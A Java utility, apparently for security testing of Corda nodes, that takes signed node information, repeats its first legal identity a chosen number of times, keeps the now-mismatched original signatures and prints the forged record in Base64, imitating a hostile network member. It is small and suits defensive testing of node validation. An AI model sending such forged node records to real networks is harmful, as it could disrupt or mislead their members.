package ledger.corda;

import java.util.ArrayList;
import java.util.Base64;
import java.util.Collections;
import net.corda.core.node.NodeInfo;
import net.corda.nodeapi.internal.SignedNodeInfo;

/**
 * Repeats the identity in signed node information, as a hostile member may: {@code RepeatIdentity TIMES INFO}. The information is
 * in Base64, as is the printed one, whose signatures do not fit.
 */
public final class RepeatIdentity {
    private RepeatIdentity() {}

    public static void main(String[] arguments) throws Exception {
        int times = Integer.parseInt(arguments[0]);
        Amqp amqp = new Amqp();
        SignedNodeInfo signed = amqp.read(Base64.getDecoder().decode(arguments[1]), SignedNodeInfo.class);
        NodeInfo info = amqp.read(signed.getRaw().getBytes(), NodeInfo.class);
        NodeInfo repeated =
                new NodeInfo(
                        info.getAddresses(),
                        new ArrayList<>(Collections.nCopies(times, info.getLegalIdentitiesAndCerts().get(0))),
                        info.getPlatformVersion(),
                        info.getSerial());
        SignedNodeInfo made = new SignedNodeInfo(amqp.write(repeated), signed.getSignatures());
        System.out.println(Base64.getEncoder().encodeToString(amqp.write(made).getBytes()));
        // Log4j's threads would keep the process running.
        Runtime.getRuntime().halt(0);
    }
}
